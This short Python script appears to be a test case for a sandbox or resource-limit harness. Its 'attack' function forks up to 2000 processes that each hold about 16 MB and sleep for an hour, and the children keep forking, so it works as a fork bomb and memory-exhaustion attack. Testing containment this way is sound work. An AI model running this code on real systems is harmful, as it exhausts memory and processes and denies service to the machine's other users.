"""Starts processes without end, each of which takes memory."""

import os
import time

from attacker import attempt, play


def attack() -> object:
    for _ in range(2000):
        if os.fork() == 0:
            held = bytearray(b"x") * 2**24
            time.sleep(3600)
            del held
        time.sleep(0.02)
    return "2000 processes"


attempt(attack)
play()
